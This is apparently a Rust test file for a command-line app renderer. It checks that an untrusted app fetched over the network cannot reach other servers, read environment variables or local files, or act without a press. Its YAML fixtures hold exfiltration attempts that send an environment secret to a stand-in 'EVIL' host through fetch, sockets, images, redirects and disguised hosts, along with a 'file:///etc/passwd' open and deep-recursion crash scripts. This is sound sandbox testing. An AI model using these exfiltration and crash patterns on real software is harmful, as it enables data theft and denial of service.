//! An app from the network that tries everything.

use std::collections::BTreeSet;
use std::process::Output;
use std::sync::{Arc, Mutex};

use super::recording_server::{RecordingServer, answer};
use super::texts;
use crate::apps::Folder;
use crate::cli::program;

/// An app that tries to reach servers, files, the environment and the desktop without a press.
const STRANGER: &str = r#"
View:
  onLoad:
    executeActionGroup:
      actions:
        - invokeAPI: {name: request}
        - invokeAPI: {name: stream}
        - invokeAPI: {name: redirected}
        - invokeAPI: {name: proxied}
        - invokeAPI: {name: login}
        - invokeAPI: {name: home}
        - openUrl: {url: "EVIL/opened"}
        - openUrl: {url: "file:///etc/passwd"}
  body:
    Column:
      children:
        - Text: {text: "secret: ${env.STRANGER_WORD} home: ${home.body.ok}"}
        - Image: {source: "EVIL/picture.png", width: 10, height: 10}
        - Image: {source: icon.png, width: 10, height: 10}
API:
  request: {url: "EVIL/request?k=${env.STRANGER_WORD}"}
  stream: {type: sse, url: "EVIL/stream?k=${env.STRANGER_WORD}"}
  redirected: {url: "HOME/away"}
  proxied: {type: sse, url: "HOME/proxied", sseOptions: {proxy: "EVIL"}}
  login: {url: "HOME/data", authorization: {oauth2: {tokenUrl: "EVIL/token", clientId: me, clientSecret: s}}}
  home: {url: "HOME/data"}
"#;

/// Opens the untrusted app by its address, without a window. The two servers are its own and the one that it should not reach.
fn open_stranger(args: &[&str]) -> (Output, RecordingServer, RecordingServer) {
    let (home, evil) = servers();
    let url = home.url("/app.yaml");
    let mut all = vec!["screenshot", &url, "--tree", "-", "--wait-text", "home: yes", "--wait", "700"];
    all.extend(args);
    let output = program(&all).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap();
    (output, home, evil)
}

/// The server of the untrusted app, and the one that it should not reach.
fn servers() -> (RecordingServer, RecordingServer) {
    let evil = RecordingServer::start(|_| answer("200 OK", "Content-Type: text/plain\r\n", "x"));
    let away = evil.url("/redirected");
    let addresses = Arc::new(Mutex::new((String::new(), evil.url(""))));
    let known = addresses.clone();
    let home = RecordingServer::start(move |path| match path {
        "/away" => answer("302 Found", &format!("Location: {away}\r\n"), ""),
        "/data" => answer("200 OK", "Content-Type: application/json\r\n", r#"{"ok": "yes"}"#),
        _ => {
            let (home, evil) = known.lock().unwrap().clone();
            answer("200 OK", "Content-Type: text/yaml\r\n", &STRANGER.replace("HOME", &home).replace("EVIL", &evil))
        }
    });
    addresses.lock().unwrap().0 = home.url("");
    (home, evil)
}

#[test]
fn an_app_from_the_network_reaches_its_own_server_only_and_reads_no_environment() {
    let (output, home, evil) = open_stranger(&[]);
    let (stdout, stderr) = texts(&output);
    assert_eq!(evil.asked(), [""; 0], "{stderr}");
    assert!(home.paths().contains("/data"), "{stderr}");
    assert!(stdout.contains("home: yes") && !stdout.contains("hunter2"), "{stdout}");
    assert!(stderr.contains("--allow-host 127.0.0.1"), "{stderr}");
    assert!(stderr.contains("E0512") && stderr.contains("`file:`"), "{stderr}");
    assert!(
        stderr.contains("E0510") && stderr.contains("icon.png"),
        "the folder of the program is none of the app's: {stderr}"
    );
    assert!(!stderr.contains("hunter2"), "{stderr}");
}

#[test]
fn what_the_command_line_allows_is_reached_and_what_it_gives_is_read() {
    let (output, home, evil) = open_stranger(&["--allow-host", "127.0.0.1", "--env", "STRANGER_WORD=given"]);
    let (stdout, stderr) = texts(&output);
    let reached: BTreeSet<String> =
        ["/picture.png", "/redirected", "/request", "/stream", "/token"].into_iter().map(str::to_owned).collect();
    let mut asked = evil.paths();
    assert!(asked.remove(&home.url("/proxied")), "{asked:?} {stderr}");
    assert_eq!(asked, reached, "{stderr}");
    assert!(evil.asked().iter().any(|line| line.contains("/request?k=given")), "{:?}", evil.asked());
    assert!(stdout.contains("secret: given"), "{stdout}");
    assert!(!stderr.contains("is not allowed"), "{stderr}");
}

/// Other ways out: scripts, sockets, pictures of every kind, redirects of pictures, addresses that look like the app's own.
const OTHER_WAYS: &str = r#"
Socket:
  chat: {uri: "ws://EVIL_HOST/socket", options: {reconnectInitialTimer: 9}}
View:
  onLoad:
    executeActionGroup:
      actions:
        - executeCode: "fetch('EVIL/fetched?k=' + env.STRANGER_WORD).catch(error => console.log(error.message))"
        - connectSocket: {name: chat}
        - invokeAPI: {name: disguised}
        - invokeAPI: {name: relative}
        - invokeAPI: {name: posted}
        - invokeAPI: {name: home}
  body:
    Column:
      children:
        - Text: {text: "home: ${home.body.ok}"}
        - Avatar: {source: "EVIL/avatar.png"}
        - Lottie: {source: "EVIL/motion.json", width: 10, height: 10}
        - Image: {source: "HOME/away.png", width: 10, height: 10}
        - Image: {source: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><image href='EVIL/inner.png' width='9' height='9'/></svg>", width: 10, height: 10}
        - Map: {tileSource: "EVIL/tiles/{z}/{x}/{y}.png", height: 60, initialCameraPosition: {lat: 1, lng: 1}, initialCameraZoom: 2}
        - Markdown: {text: "![x](EVIL/markdown.png)"}
        - Html: {text: "<p>a</p><img src='EVIL/html.png'><meta http-equiv='refresh' content='0;url=EVIL/refresh'>"}
API:
  disguised: {url: "http://HOME_HOST@EVIL_HOST/disguised"}
  relative: {url: "HOME/relative"}
  posted: {url: "HOME/posted", method: POST, headers: {X-Tenant: t-1, Authorization: Bearer abcdef}, body: {secret: s-1}}
  home: {url: "HOME/data"}
"#;

#[test]
fn no_other_way_leads_out_and_none_is_closed_to_what_is_allowed() {
    let start = || {
        let evil = RecordingServer::start(|_| answer("200 OK", "Content-Type: text/plain\r\n", "x"));
        let places = Arc::new(Mutex::new((String::new(), evil.url(""))));
        let known = places.clone();
        let home = RecordingServer::start(move |path| {
            let (home, evil) = known.lock().unwrap().clone();
            let to = |status: &str, address: &str| answer(status, &format!("Location: {address}\r\n"), "");
            match path {
                "/data" => answer("200 OK", "Content-Type: application/json\r\n", r#"{"ok": "yes"}"#),
                "/away.png" => to("302 Found", &format!("{evil}/away.png")),
                "/relative" => {
                    to("301 Moved Permanently", &format!("/a/../..{}/relative", evil.trim_start_matches("http:")))
                }
                "/posted" => to("307 Temporary Redirect", &format!("{evil}/posted")),
                "/app.yaml" => {
                    let host = |address: &str| address.trim_start_matches("http://").to_owned();
                    let app = OTHER_WAYS.replace("HOME_HOST", &host(&home)).replace("EVIL_HOST", &host(&evil));
                    answer("200 OK", "Content-Type: text/yaml\r\n", &app.replace("HOME", &home).replace("EVIL", &evil))
                }
                _ => answer("404 Not Found", "", ""),
            }
        });
        places.lock().unwrap().0 = home.url("");
        (home, evil)
    };
    let open = |home: &RecordingServer, args: &[&str]| {
        let url = home.url("/app.yaml");
        let all = [&["screenshot", &url, "--tree", "-", "--wait-text", "home: yes", "--wait", "700"], args].concat();
        texts(&program(&all).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap())
    };
    let (home, evil) = start();
    let (stdout, stderr) = open(&home, &[]);
    assert!(stdout.contains("home: yes"), "{stdout}{stderr}");
    assert_eq!(evil.asked(), [""; 0], "{stderr}");
    assert!(!stderr.contains("hunter2") && stderr.contains("--allow-host 127.0.0.1"), "{stderr}");
    let (home, evil) = start();
    let (_, stderr) = open(&home, &["--allow-host", "127.0.0.1"]);
    let reached = evil.paths();
    for path in ["/fetched", "/socket", "/avatar.png", "/motion.json", "/away.png", "/disguised", "/posted"] {
        assert!(reached.contains(path), "{path} is not in {reached:?}: {stderr}");
    }
    assert!(reached.iter().any(|path| path.starts_with("/tiles/2/")), "{reached:?}: {stderr}");
    for path in ["/inner.png", "/refresh"] {
        assert!(!reached.contains(path), "{path}: {reached:?}");
    }
    // `/a/../..//host` is a path of the own server.
    assert!(
        home.asked().iter().any(|line| line.contains("/relative HTTP") && line.starts_with("GET //")),
        "{:?}",
        home.asked()
    );
    assert!(!evil.asked().iter().any(|line| line.contains("hunter2")), "{:?}", evil.asked());
}

#[test]
fn without_a_window_a_press_is_needed_as_in_one() {
    let app = "View:\n  onLoad:\n    executeActionGroup:\n      actions:\n        - copyToClipboard: {value: unasked}\n        \
               - showLocalNotification: {title: unasked, body: b}\n        - openUrl: {url: 'https://unasked.example/'}\n        \
               - getNetworkInfo: {onSuccess: console.log('addresses ' + JSON.stringify(event.data.networkInfo.addresses))}\n  \
               body:\n    Button:\n      label: Press\n      onTap:\n        executeActionGroup:\n          actions:\n            \
               - copyToClipboard: {value: pressed}\n            - openUrl: {url: 'https://pressed.example/'}\n            \
               - openUrl: {url: 'https://second.example/'}\n";
    let home = RecordingServer::start(move |_| answer("200 OK", "Content-Type: text/yaml\r\n", app));
    let url = home.url("/app.yaml");
    let folder = Folder::new("pressed", &[("screens/Home.yaml", app)]);
    let run = |app: &str| {
        let args = ["screenshot", app, "--tree", "-", "--wait", "100", "--tap", "Press"];
        texts(&program(&args).output().unwrap()).1
    };
    let (of_network, local) = (run(&url), run(folder.0.to_str().unwrap()));
    assert!(of_network.contains("addresses []\n"), "{of_network}");
    for words in ["nothing is put on the clipboard", "a notification is not shown"] {
        assert!(of_network.contains(words) && !local.contains(words), "{words}: {of_network}{local}");
    }
    for words in ["would copy to the clipboard: unasked", "would show the notification unasked"] {
        assert!(!of_network.contains(words) && local.contains(words), "{words}: {of_network}{local}");
    }
    for words in [
        "would ask before it opens https://unasked.example/",
        "would copy to the clipboard: pressed",
        "would open https://pressed.example/",
        "would ask before it opens https://second.example/",
    ] {
        assert!(of_network.contains(words) && local.contains(words), "{words}: {of_network}{local}");
    }
}

#[test]
fn listening_to_a_stranger_reaches_what_its_window_would() {
    let (home, evil) = servers();
    let url = home.url("/app.yaml");
    let args = ["listen", "--app", &url, "--api", "stream", "--format", "human", "--max-reconnect-attempts", "0"];
    let (stdout, stderr) = texts(&program(&args).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap());
    assert!(stdout.contains("--allow-host 127.0.0.1"), "{stdout}{stderr}");
    assert_eq!(evil.asked(), [""; 0]);
    let allowed = [&args[..], &["--allow-host", "127.0.0.1"]].concat();
    program(&allowed).env("STRANGER_WORD", "hunter2-of-the-process").output().unwrap();
    assert_eq!(evil.asked(), ["GET /stream?k= HTTP/1.1"]);
}

#[test]
fn an_app_is_not_taken_from_another_server_than_was_named() {
    let evil = RecordingServer::start(|_| answer("200 OK", "", "View: {body: {Text: {text: evil}}}"));
    let away = evil.url("/app.yaml");
    let home = RecordingServer::start(move |_| answer("302 Found", &format!("Location: {away}\r\n"), ""));
    let output = program(&["screenshot", &home.url("/app.yaml"), "--tree", "-"]).output().unwrap();
    let (stdout, stderr) = texts(&output);
    assert_eq!((output.status.code(), stdout.as_str()), (Some(1), ""), "{stderr}");
    assert!(stderr.contains("its server sends to") && stderr.contains("open that address"), "{stderr}");
    assert_eq!(evil.asked(), [""; 0]);
}

#[test]
fn check_reads_an_app_by_its_address_and_runs_nothing_of_it() {
    let faulty = "View:\n  onLoad: {invokeAPI: {name: away}}\n  body:\n    Text: {lable: a, text: '${env.STRANGER_WORD}'}\nAPI:\n  away: {url: EVIL/x}\n";
    let evil = RecordingServer::start(|_| answer("200 OK", "", "x"));
    let body = faulty.replace("EVIL", &evil.url(""));
    let home = RecordingServer::start(move |path| match path {
        "/app.yaml" => answer("200 OK", "Content-Type: text/yaml\r\n", &body),
        _ => answer("404 Not Found", "", "there is none"),
    });
    let check = |args: &[&str]| {
        let output = program(&[&["check"], args].concat()).env("STRANGER_WORD", "hunter2").output().unwrap();
        let (stdout, stderr) = texts(&output);
        (output.status.code(), stdout, stderr)
    };
    let url = home.url("/app.yaml");
    let (code, stdout, stderr) = check(&[&url, "--fix"]);
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    assert!(stdout.contains("unknown property `lable` on `Text`") && stdout.contains(&format!("{url}:4:")), "{stdout}");
    assert!(stderr.contains("0 faults mended in 0 files") && !stdout.contains("hunter2"), "{stderr}");
    assert_eq!((evil.asked(), home.paths().len()), (Vec::new(), 1));
    let missing = home.url("/none.yaml");
    let (code, stdout, _) = check(&[&missing, "--format", "json"]);
    let fault: serde_json::Value = serde_json::from_str(stdout.trim()).unwrap();
    assert_eq!((code, &fault["code"]), (Some(1), &serde_json::json!("E0110")), "{stdout}");
    let message = fault["message"].as_str().unwrap();
    assert!(message.contains(&missing) && message.contains("404"), "{message}");
    assert!(fault["help"].as_str().is_some_and(|help| help.contains("file or folder")), "{stdout}");
}

/// Structures that Boa follows by recursion: each made a hundred thousand levels deep, which once overflowed the stack and ended the process.
#[test]
fn no_depth_of_objects_ends_the_process() {
    let deep = [
        "var o = {}; for (var i = 0; i < 1e5; i++) o = Object.create(o); o.x; o.y = 1",
        "var p = {}; for (var i = 0; i < 1e5; i++) p = new Proxy(p, {}); p.x; Object.keys(p)",
        "var h = {}; for (var i = 0; i < 1e5; i++) h = new Proxy({}, h); h.x",
        "var l = []; for (var i = 0; i < 1e5; i++) l = [l]; String(l); l.flat(Infinity)",
        "var t = [1].values(); for (var i = 0; i < 1e5; i++) t = t.filter(x => true); t.next()",
    ];
    for code in deep {
        let home = format!("View:\n  onLoad: |\n    {code}\n  body:\n    Text: {{text: still here}}\n");
        let folder = Folder::new("deep", &[("screens/Home.yaml", &home)]);
        let output = program(&["screenshot", folder.0.to_str().unwrap(), "--tree", "-"]).output().unwrap();
        let (stdout, stderr) = texts(&output);
        assert!(output.status.code().is_some(), "{code}: {stderr}");
        assert!(stdout.contains("still here"), "{code}: {stdout}{stderr}");
    }
}
